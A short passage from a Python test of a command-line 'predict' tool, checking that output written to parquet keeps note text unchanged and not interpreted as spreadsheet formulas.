    assert all(float(r["voltage_mean"]) == float(r["voltage_mean"]) for r in rows)
    # parquet keeps the text as it is (it is typed, not opened as formulas)
    parquet = tmp_path / "predicted.parquet"
    result = runner.invoke(
        app,
        ["predict", "--model", str(model_dir), "--input", str(candidates), "--out", str(parquet)],
    )
    assert result.exit_code == 0, result.stderr
    assert pd.read_parquet(parquet)["note"].tolist() == FORMULAS[: len(frame)]
